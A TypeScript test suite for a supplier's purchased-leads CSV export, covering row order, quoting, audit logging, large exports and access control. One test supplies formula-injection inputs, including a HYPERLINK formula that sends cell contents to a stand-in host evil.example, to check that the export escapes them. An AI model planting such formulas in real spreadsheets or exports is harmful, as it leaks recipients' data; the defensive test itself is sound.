import { afterAll, expect, test } from 'bun:test'
import { desc, eq } from 'drizzle-orm'
import { auditLog } from '../../../db/schema/audit-log.ts'
import { leads } from '../../../db/schema/leads.ts'
import type { suppliers } from '../../../db/schema/people.ts'
import { purchases, receipts } from '../../../db/schema/purchases.ts'
import { signedInSupplier } from '../../../tests/support/people/supplier.ts'
import { openProduct } from '../../../tests/support/product.ts'
import { purchasedLead } from '../../../tests/support/purchase/purchased-lead.ts'

const PATH = '/api/supplier/purchases.csv'

const product = await openProduct()
afterAll(() => product.close())

const linesOf = (body: unknown) => String(body).replace('\uFEFF', '').split('\r\n').slice(0, -1)

test('a supplier takes home what it bought, with contacts, newest first, and nobody else’s', async () => {
  const { supplier, browser } = await signedInSupplier(product)
  const first = await purchasedLead(product, supplier, { lead: { company: 'Olive, "Oil" & Co' } })
  product.clock.passMinutes(1)
  const second = await purchasedLead(product, supplier, { source: 'credit' })
  await purchasedLead(product, (await signedInSupplier(product)).supplier)

  const { status, headers, body } = await browser.get(PATH)

  expect(status).toBe(200)
  expect(headers.get('content-type')).toBe('text/csv; charset=utf-8')
  expect(headers.get('content-disposition')).toBe('attachment; filename="my-leads-2026-11-21.csv"')
  expect(headers.get('cache-control')).toContain('no-store')
  const [header, ...rows] = linesOf(body)
  expect(header).toStartWith('Receipt,Purchased (UTC),Paid by,Price (CAD),Company,First name')
  expect(rows).toHaveLength(2)
  expect(rows[0]).toStartWith(`${second.receiptNumber},2026-11-21T15:01:00.000Z,credit,0,`)
  expect(rows[0]).toContain(second.lead.email)
  expect(rows[1]).toStartWith(
    `${first.receiptNumber},2026-11-21T15:00:00.000Z,card,89,"Olive, ""Oil"" & Co",Olive,Owner,${first.lead.email}`,
  )
})

test('what a person typed is never run by the spreadsheet that opens it', async () => {
  const { supplier, browser } = await signedInSupplier(product)
  const company = '=HYPERLINK("https://evil.example?"&A1)'
  await purchasedLead(product, supplier, { lead: { company, lastName: '+cmd', website: '@SUM(1)' } })
  const [, row] = linesOf((await browser.get(PATH)).body)
  expect(row).toContain(`"'=HYPERLINK(""https://evil.example?""&A1)"`)
  expect(row).toContain(",'+cmd,")
  expect(row).toContain(",'@SUM(1),")
})

test('whose contact details left is written down', async () => {
  const { supplier, browser } = await signedInSupplier(product)
  const { lead } = await purchasedLead(product, supplier)
  await browser.get(PATH)
  const written = await product.db
    .select()
    .from(auditLog)
    .where(eq(auditLog.actorId, supplier.id))
    .orderBy(desc(auditLog.id))
  expect(written).toMatchObject([
    {
      actor: 'supplier',
      action: 'exported purchases with contact details',
      recordType: 'leads',
      details: { leadIds: [lead.id] },
    },
  ])
  expect(JSON.stringify(written)).not.toContain(lead.email)
})

test('many purchases all arrive, and none twice', async () => {
  const { supplier, browser } = await signedInSupplier(product)
  const { lead } = await purchasedLead(product, supplier)
  const others = await purchasedLike(lead, supplier, 500)
  const ids = linesOf((await browser.get(PATH)).body)
    .slice(1)
    .map((row) => row.slice(-36))
  expect(ids.sort()).toEqual([lead.id, ...others].sort())
})

/** So many others of other people, assigned to the supplier at this moment; gives their ids. */
async function purchasedLike(
  { id, tier, publicVolumeCents, ...lead }: typeof leads.$inferSelect,
  { id: supplierId, name: billedTo }: typeof suppliers.$inferSelect,
  count: number,
): Promise<string[]> {
  const now = product.clock.now()
  const made = await product.db
    .insert(leads)
    .values(
      Array.from({ length: count }, (_, index) => ({
        ...lead,
        email: `other-${index}@${lead.email}`,
        phone: `+1905${5_550_000 + index}`,
        soldAt: now,
      })),
    )
    .returning({ leadId: leads.id })
  const bought = await product.db
    .insert(purchases)
    .values(
      made.map(({ leadId }) => ({
        leadId,
        supplierId,
        source: 'assignment' as const,
        priceCents: 0,
        purchasedAt: now,
      })),
    )
    .returning({ purchaseId: purchases.id })
  await product.db
    .insert(receipts)
    .values(bought.map((one) => ({ ...one, issuedAt: now, billedTo, priceCents: 0, totalCents: 0 })))
  return made.map(({ leadId }) => leadId)
}

test('a supplier that has bought nothing gets the header alone; one that was made inactive keeps its own', async () => {
  const { browser } = await signedInSupplier(product)
  expect(linesOf((await browser.get(PATH)).body)).toHaveLength(1)
  const inactive = await signedInSupplier(product, { status: 'inactive' })
  await purchasedLead(product, inactive.supplier)
  expect(linesOf((await inactive.browser.get(PATH)).body)).toHaveLength(2)
})

test('a caller who is not signed in gets nothing', async () => {
  expect((await product.browser().get(PATH)).status).toBe(401)
})
